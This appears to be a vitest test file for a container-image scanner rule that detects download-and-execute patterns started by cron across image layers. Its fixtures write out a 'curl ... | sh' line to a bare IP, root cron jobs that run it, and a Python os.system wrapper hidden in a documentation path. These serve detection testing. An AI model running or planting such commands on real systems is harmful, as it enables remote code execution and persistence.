import { describe, expect, it } from 'vitest';
import { type ImageSpec, judge } from '../../../testkit/detect.ts';
import { downloadAndRun } from '../download-and-run/index.ts';

const FETCH = 'curl -s http://198.51.100.7/x | sh\n';
const CRON = 'etc/cron.d/state';

function told(...layers: ImageSpec['layers']): readonly string[] {
  const { findings } = judge([downloadAndRun], { layers });
  return findings.map(({ severity, why, evidence }) => `${severity} ${evidence[0].path} ${why}`);
}

describe('what starts by itself, over all layers', () => {
  it('names the place that runs a file, and who starts it', () => {
    expect(told({ 'opt/x': FETCH }, { [CRON]: '* * * * * root sh /opt/x\n' })).toEqual([
      'critical /opt/x /opt/x fetches a program and hands it straight to an interpreter, from a bare IP address; cron starts /etc/cron.d/state, which runs it.',
    ]);
  });

  it('tells once what the layer told already', () => {
    const found = told({ [CRON]: `* * * * * root . /opt/env; ${FETCH}` }, { 'opt/env': 'A=1\n' });
    expect(found).toHaveLength(1);
  });

  it('goes by the merged tree: a file that is replaced is not run', () => {
    const cron = { [CRON]: '* * * * * root sh /opt/x\n' };
    expect(told({ 'opt/x': FETCH }, cron, { 'opt/x': 'true\n' }).join()).not.toContain('cron starts');
    expect(told({ 'opt/x': FETCH }, cron, { [CRON]: null }).join()).not.toContain('cron starts');
  });

  it('ends where files run one another', () => {
    const found = told({
      [CRON]: '* * * * * root sh /opt/a\n',
      'opt/a': 'sh /opt/b\n',
      'opt/b': `sh /opt/a\n${FETCH}`,
    });
    expect(found.filter((text) => text.includes('/opt/b'))).toHaveLength(1);
  });

  it('reads a file as what runs it, whatever its name', () => {
    const python = `import os\nos.system("${FETCH.trim()}")\n`;
    const files = { 'usr/share/doc/x/data.txt': python };
    const found = told(files, { [CRON]: '* * * * * root python3 /usr/share/doc/x/data.txt\n' });
    expect(found.join()).toContain('critical /usr/share/doc/x/data.txt');
    expect(told(files, { [CRON]: '* * * * * root cat /usr/share/doc/x/data.txt\n' })).toEqual([]);
  });

  it('says what is run and was not kept, and nothing of a program or of a module', () => {
    const { unknowns } = judge([downloadAndRun], {
      layers: [
        {
          'usr/share/doc/zz/a': { bytes: 'x', content: { kind: 'text', encoding: 'utf-8' } },
          'usr/lib/python3/dist-packages/x/m.py': {
            bytes: 'x',
            content: { kind: 'text', encoding: 'utf-8' },
          },
          'usr/bin/x': { elf: true },
          [CRON]:
            '* * * * * root sh /usr/share/doc/zz/a\n* * * * * root python3 /usr/lib/python3/dist-packages/x/m.py\n* * * * * root x\n',
        },
      ],
    });
    expect(unknowns).toEqual([
      {
        reason: 'unreadable',
        layer: 0,
        path: 'usr/share/doc/zz/a',
        detail: '/etc/cron.d/state runs it, and its text was not kept: what it does is not known',
      },
    ]);
  });
});
